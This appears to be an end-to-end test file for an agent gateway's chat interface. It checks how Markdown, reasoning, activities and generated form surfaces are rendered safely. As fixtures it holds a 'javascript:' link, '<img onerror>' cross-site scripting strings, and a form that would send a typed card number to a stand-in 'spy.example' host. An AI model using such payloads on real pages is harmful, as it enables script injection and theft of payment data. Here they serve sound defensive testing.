// What agents send beside plain words, on the gateway's own page: Markdown and code, reasoning, activities and surfaces.

import assert from "node:assert/strict";
import { test } from "node:test";
import { idle, say } from "./lib/chat.mjs";
import { startDesigner } from "./lib/designer.mjs";
import { camera, looksTogether } from "./lib/looks.mjs";
import { openPlanner, visitor } from "./lib/planner.mjs";
import { startGateway } from "./lib/servers.mjs";
import { gate, says, startTeller } from "./lib/teller.mjs";

const markdown = `## A plan

A [link](https://example.com/a), a [bad one](javascript:alert(1)), a [note](#here) and <b>markup</b>.

![A cat](https://example.com/cat.png)

- [x] packed
- [ ] booked

| Place | Price |
| --- | --- |
| Oslo | 120 |

> Said with \`care\`

\`\`\`python
def greet(name):
    return "Hello, " + name + ", this is a line of code that is much longer than any screen of a phone or the column of a conversation will ever be wide"
\`\`\`
`;

const [thought, counted, built, retried] = [gate(), gate(), gate(), gate()];
const reasons = (messageId, text) => [
  { type: "REASONING_START", messageId },
  { type: "REASONING_MESSAGE_START", messageId, role: "reasoning" },
  { type: "REASONING_MESSAGE_CONTENT", messageId, delta: text },
];
const reasoned = (messageId) => [
  { type: "REASONING_MESSAGE_END", messageId },
  { type: "REASONING_END", messageId },
];

const plan = { title: "Booking", status: "running", progress: 0.25, steps: [{ title: "Search", status: "done" }, { title: "Pay", status: "pending" }], supplier: { name: "ACME" } };
const broken = { a2ui_operations: [{ createSurface: 7 }, { version: "v0.9", createSurface: { surfaceId: "x", catalogId: "none" } }, { version: "v0.9", updateComponents: { surfaceId: "x", components: "no list" } }] };

const surface = { version: "v0.9", createSurface: { surfaceId: "s", catalogId: "https://a2ui.org/specification/v0_9/basic_catalog.json" } };
const parts = (components) => ({ version: "v0.9", updateComponents: { surfaceId: "s", components } });
const spying = { call: "formatString", args: { value: "https://spy.example/keys?typed=${/card}" } };
const form = parts([
  { id: "root", component: "Column", children: ["card", "more"] },
  { id: "card", component: "TextField", label: "Card number", value: { path: "/card" } },
  { id: "more", component: "Button", child: "label", action: { functionCall: { call: "openUrl", args: { url: spying } } } },
  { id: "label", component: "Text", text: "Read more" },
]);

const teller = await startTeller({
  Markdown: says(markdown),
  Think: [...reasons("r1", "First the **facts**"), thought.wait, { type: "REASONING_MESSAGE_CONTENT", messageId: "r1", delta: ", then the sum." }, ...reasoned("r1"), ...says("It is 42.")],
  Secret: [{ type: "REASONING_START", messageId: "r2" }, { type: "REASONING_ENCRYPTED_VALUE", subtype: "message", entityId: "r2", encryptedValue: "c2VjcmV0" }, { type: "REASONING_END", messageId: "r2" }, ...says("Said without a word of why.")],
  Work: [
    { type: "ACTIVITY_SNAPSHOT", messageId: "a1", activityType: "BOOKING", content: plan },
    { type: "ACTIVITY_SNAPSHOT", messageId: "a2", activityType: "RADAR", content: { points: [[1, 2], [3, 4]], mode: 7, markup: "<img src=x onerror=alert(1)>" } },
    { type: "ACTIVITY_SNAPSHOT", messageId: "a3", activityType: "mcp-apps", content: { anything: { at: "all" } } },
    counted.wait,
    { type: "ACTIVITY_DELTA", messageId: "a1", activityType: "BOOKING", patch: [{ op: "replace", path: "/progress", value: 1 }, { op: "replace", path: "/steps/1/status", value: "done" }, { op: "replace", path: "/status", value: "finished" }] },
    ...says("Booked."),
  ],
  Tries: [
    { type: "ACTIVITY_SNAPSHOT", messageId: "a7", activityType: "a2ui-surface", content: { status: "building" } },
    built.wait,
    { type: "ACTIVITY_SNAPSHOT", messageId: "a7", activityType: "a2ui-surface", content: { status: "retrying", attempt: 2 } },
    retried.wait,
    { type: "ACTIVITY_SNAPSHOT", messageId: "a7", activityType: "a2ui-surface", content: { status: "failed", error: "no root" } },
    ...says("It did not work."),
  ],
  Round: [{ type: "ACTIVITY_SNAPSHOT", messageId: "a5", activityType: "a2ui-surface", content: { a2ui_operations: [surface, parts([{ id: "root", component: "Column", children: ["root"] }])] } }, ...says("Round and round.")],
  Throws: [{ type: "ACTIVITY_SNAPSHOT", messageId: "a6", activityType: "a2ui-surface", content: { a2ui_operations: [surface, parts([{ id: "root", component: "Text", text: { not: "a text" } }])] } }, ...says("Thrown.")],
  Nothing: [],
  Link: [
    { type: "TOOL_CALL_START", toolCallId: "c1", toolCallName: "fetch" },
    { type: "TOOL_CALL_ARGS", toolCallId: "c1", delta: "{}" },
    { type: "TOOL_CALL_END", toolCallId: "c1" },
    { type: "TOOL_CALL_RESULT", messageId: "r7", toolCallId: "c1", content: [{ type: "image", source: { type: "url", value: "http://[" } }] },
    ...says("One of its addresses is none."),
  ],
  Form: [{ type: "ACTIVITY_SNAPSHOT", messageId: "a8", activityType: "a2ui-surface", content: { a2ui_operations: [surface, form, { version: "v0.9", updateDataModel: { surfaceId: "s", path: "/", value: { card: "" } } }] } }, ...says("Fill it in.")],
  Broken: [{ type: "ACTIVITY_SNAPSHOT", messageId: "a4", activityType: "a2ui-surface", content: broken }, ...says("Something was shown.")],
});

const designer = await startDesigner({
  surfaceId: "card",
  components: [
    { id: "root", component: "Card", child: "column" },
    { id: "column", component: "Column", children: ["name", "note", "picture", "mail", "book"] },
    { id: "name", component: "Text", variant: "h3", text: { path: "/name" } },
    { id: "note", component: "Text", variant: "caption", text: "Two nights, with breakfast" },
    { id: "picture", component: "Image", url: "https://example.com/hotel.png", description: "The hotel from outside" },
    { id: "mail", component: "TextField", label: "Your name", value: { path: "/guest" } },
    { id: "book", component: "Button", variant: "primary", child: "label", action: { event: { name: "book", context: { hotel: { path: "/name" }, guest: { path: "/guest" } } } } },
    { id: "label", component: "Text", text: "Book it" },
  ],
  data: { name: "The Ritz <img src=x onerror=alert(1)>", guest: "" },
});

const gateway = await startGateway({
  team: `
version: 1
models: { default: { base_url: "${designer.url}", api_key: none, model: m } }
agents:
  teller: { type: agui, description: Tells stories, url: "${teller}" }
  designs: { type: llm, description: Designs surfaces, a2ui: on }
`,
});

const visit = visitor(gateway.url, { permissions: ["clipboard-read", "clipboard-write"] });

/** A new conversation with an agent, on a page that open(t, place) opens. */
async function opened(t, agent, open = visit) {
  const page = await open(t, `#/t/${agent}/${crypto.randomUUID()}`);
  page.allow(/404/); // nobody has begun the thread that this names
  await page.getByTestId("welcome").waitFor();
  return page;
}

test("Markdown is shown as elements: links open safely, images are links, tables and tasks are there", async (t) => {
  const page = await opened(t, "teller");
  await say(page, "Markdown");
  const said = page.getByTestId("said");
  await said.getByRole("heading", { name: "A plan" }).waitFor();
  const link = said.getByRole("link", { name: "link" });
  assert.deepEqual(await link.evaluate(({ href, target, rel }) => [href, target, rel]), ["https://example.com/a", "_blank", "noreferrer noopener"]);
  const made = (element, part, property) => element.evaluate((of, [part, property]) => getComputedStyle(of, part)[property], [part, property]);
  assert.equal(await made(said.locator("td").first(), null, "overflowWrap"), "normal", "words and numbers are not broken");
  for (const [element, part] of [["code", "::before"], ["p", "::before"], ["p", "::after"]]) {
    assert.equal(await made(said.locator(`blockquote ${element}`), part, "content"), "none", "no sign is added");
  }
  assert.equal(await said.getByRole("link", { name: "bad one" }).count(), 0, "a script's address is no link");
  assert.equal(await said.getByRole("link", { name: "note" }).count(), 0, "a link within the text would leave the thread");
  assert.equal(await said.getByRole("link", { name: "A cat" }).getAttribute("href"), "https://example.com/cat.png");
  assert.equal(await said.locator("img, b").count(), 0, "neither images nor markup");
  assert.deepEqual(await said.getByRole("checkbox").evaluateAll((boxes) => boxes.map(({ checked, disabled }) => [checked, disabled])), [[true, true], [false, true]]);
  await said.getByRole("region", { name: "Table" }).getByRole("cell", { name: "Oslo" }).waitFor();
});

test("a block of code has its language, is copied, and scrolls by keyboard", async (t) => {
  const page = await opened(t, "teller");
  await say(page, "Markdown");
  const code = page.getByTestId("code");
  assert.equal(await code.getAttribute("data-language"), "python");
  await code.locator(".hljs-keyword").getByText("return").waitFor();
  await code.getByRole("button", { name: "Copy the code" }).click();
  await code.getByText("Copied").first().waitFor();
  assert.match(await page.evaluate(() => navigator.clipboard.readText()), /^def greet\(name\):\n {4}return "Hello, .* wide"$/);
  const block = code.getByRole("region", { name: "Code in python" });
  await block.focus();
  await page.keyboard.press("ArrowRight");
  await page.waitForFunction((pre) => pre.scrollLeft > 0, await block.elementHandle());
});

test("reasoning is folded while it comes and after, opens by keyboard, and is there after a reload", async (t) => {
  const page = await opened(t, "teller");
  await say(page, "Think");
  const reasoning = page.getByTestId("reasoning");
  await reasoning.getByText("Thinking…").waitFor();
  assert.equal(await reasoning.getByText("facts").isVisible(), false);
  thought.open();
  await page.getByText("It is 42.").waitFor();
  await reasoning.getByText(/^Thought for /).waitFor();
  await reasoning.locator("summary").focus();
  await page.keyboard.press("Enter");
  await reasoning.getByText("First the facts, then the sum.").waitFor();
  await page.reload();
  await reasoning.getByText("Thoughts", { exact: true }).waitFor();
  assert.equal(await reasoning.getByText("First the facts").isVisible(), false);
});

test("of encrypted reasoning nothing is shown", async (t) => {
  const page = await opened(t, "teller");
  await say(page, "Secret");
  await page.getByText("Said without a word of why.").waitFor();
  await idle(page);
  assert.equal(await page.getByTestId("reasoning").count(), 0);
  assert.equal(await page.getByText("c2VjcmV0").count(), 0);
});

test("activities of any type are readable, change as they go, and are there after a reload", async (t) => {
  const page = await opened(t, "teller");
  await say(page, "Work");
  const activity = (type) => page.locator(`[data-testid="activity"][data-type="${type}"]`);
  const booking = activity("BOOKING");
  await booking.getByText("25 %").waitFor();
  assert.equal(await booking.getByRole("progressbar").getAttribute("aria-label"), "Progress: Booking");
  await booking.getByText("Pay, not begun").waitFor();
  await activity("mcp-apps").getByText("Mcp apps").waitFor();
  counted.open();
  await page.getByText("Booked.").waitFor();
  for (const reload of [false, true]) {
    if (reload) await page.reload();
    await booking.getByText("100 %").waitFor();
    await booking.getByText("Finished").waitFor();
    await booking.getByText("Pay, done").waitFor();
    await booking.getByText("Details").click();
    await booking.getByText("supplier").click();
    await booking.getByText("ACME").waitFor();
    const radar = activity("RADAR");
    assert.equal(await radar.getByText("points").isVisible(), false, "what is not known is folded");
    await radar.getByText("Radar").click();
    await radar.getByText("<img src=x onerror=alert(1)>").waitFor();
  }
});

test("a surface is drawn, comes back to the agent, loads nothing from elsewhere, and is there after a reload", async (t) => {
  const page = await opened(t, "designs");
  await say(page, "Which hotel?");
  const surface = page.getByTestId("surface");
  await surface.getByText("The Ritz <img src=x onerror=alert(1)>").waitFor();
  await page.getByText("There.", { exact: true }).waitFor();
  assert.equal(await surface.locator("img").count(), 0);
  assert.equal(await surface.getByRole("link", { name: "The hotel from outside" }).getAttribute("rel"), "noreferrer noopener");
  await surface.getByLabel("Your name").fill("Ada");
  await surface.getByRole("button", { name: "Book it" }).click();
  await page.getByText("It is booked.").waitFor();
  assert.match(designer.asked.at(-1).content, /User performed action "book" on surface "card" .*"guest":"Ada"/);
  await page.reload();
  await surface.getByText("The Ritz").waitFor();
  assert.equal(await surface.count(), 1);
});

test("a form is shown before anybody has filled it in, and opens an address only by a press on its host", async (t) => {
  const page = await openPlanner(t, gateway.url, {
    place: `#/t/teller/${crypto.randomUUID()}`,
    // CopilotKit gives up hiding a surface after 8 seconds. Here it never does.
    prepare: (page) =>
      page.addInitScript(() => {
        const { setTimeout } = window;
        window.setTimeout = (task, ms, ...more) => (ms === 8000 ? 0 : setTimeout(task, ms, ...more));
      }),
  });
  page.allow(/404/);
  const opened = [];
  page.context().on("page", (other) => opened.push(other.url()));
  await say(page, "Form");
  const surface = page.getByTestId("surface");
  await surface.getByRole("textbox", { name: "Card number" }).fill("4111"); // a role is found where the form is not hidden
  await surface.getByRole("button", { name: "Read more" }).click();
  const link = surface.getByRole("link", { name: "Open spy.example" });
  assert.equal(await link.getAttribute("href"), "https://spy.example/keys?typed=4111");
  assert.equal(await link.getAttribute("rel"), "noreferrer noopener");
  assert.deepEqual(opened, []);
  await page.shot("surface-form");
});

test("a result with an address that is none leaves the conversation as it is", async (t) => {
  const page = await opened(t, "teller");
  await say(page, "Link");
  await page.getByText("One of its addresses is none.").waitFor();
  await page.getByText("A file was left out: it has a URL that is none.").waitFor({ state: "attached" }); // folded; by the gateway
  assert.equal(await page.getByTestId("broken").count() + await page.getByTestId("not-drawn").count(), 0);
});

test("a turn that ends without a message says so", async (t) => {
  const page = await opened(t, "teller");
  await say(page, "Nothing");
  await page.locator('[data-testid="run-mark"][data-kind="silent"]').waitFor();
});

test("a surface that cannot be drawn is no white page", async (t) => {
  const page = await opened(t, "teller");
  page.allow(/processMessages error/); // CopilotKit's renderer says so, and shows it where the surface would be
  await say(page, "Broken");
  await page.getByText("Something was shown.").waitFor();
  await page.getByText(/A2UI render error/).first().waitFor();
  await say(page, "And on?");
  await page.getByText("You wrote: And on?").waitFor();
});

test("what becomes of a surface that is built is said", async (t) => {
  const page = await opened(t, "teller");
  await say(page, "Tries");
  await page.getByText("Building the interface…").waitFor();
  built.open();
  await page.getByText("Building the interface, another try…").waitFor();
  retried.open();
  await page.getByText("It did not work.").waitFor();
  await page.getByTestId("surface-failed").getByText("Details").click();
  await page.getByText("no root").waitFor();
});

test("a surface that contains itself is shown as data", async (t) => {
  const page = await opened(t, "teller");
  await say(page, "Round");
  await page.getByText("Round and round.").waitFor();
  await page.getByTestId("not-drawn").getByText("Data").click();
  await page.getByTestId("not-drawn").getByText("a2ui_operations").waitFor();
});

test("an error in a surface stays in its message", async (t) => {
  const page = await opened(t, "teller");
  page.allow(/Objects are not valid as a React child|#31/);
  await say(page, "Throws");
  await page.getByText("Thrown.").waitFor();
  await page.getByTestId("not-drawn").waitFor();
  await say(page, "And on?");
  await page.getByText("You wrote: And on?").waitFor();
});

looksTogether("what agents send beside words", async (t, look) => {
  thought.open();
  counted.open();
  const page = await opened(t, "teller", (t, place) => openPlanner(t, gateway.url, { place, ...look.options }));
  const { stage, done } = camera(page, look, "content");
  await say(page, "Markdown");
  await page.getByTestId("code").locator(".hljs-keyword").first().waitFor();
  await idle(page);
  await stage("1 markdown", { end: false });
  await say(page, "Think");
  await page.getByText("It is 42.").waitFor();
  await page.getByTestId("reasoning").locator("summary").click();
  await say(page, "Work");
  await page.getByText("Booked.").waitFor();
  await idle(page);
  await page.getByText("Radar").click();
  await stage("2 reasoning and activities", { end: false });
  await page.getByTestId("agent-switch").selectOption("designs");
  await page.getByTestId("welcome").waitFor();
  await say(page, "Which hotel?");
  await page.getByText("There.", { exact: true }).waitFor();
  await idle(page);
  await stage("3 surface", { end: false });
  done();
});
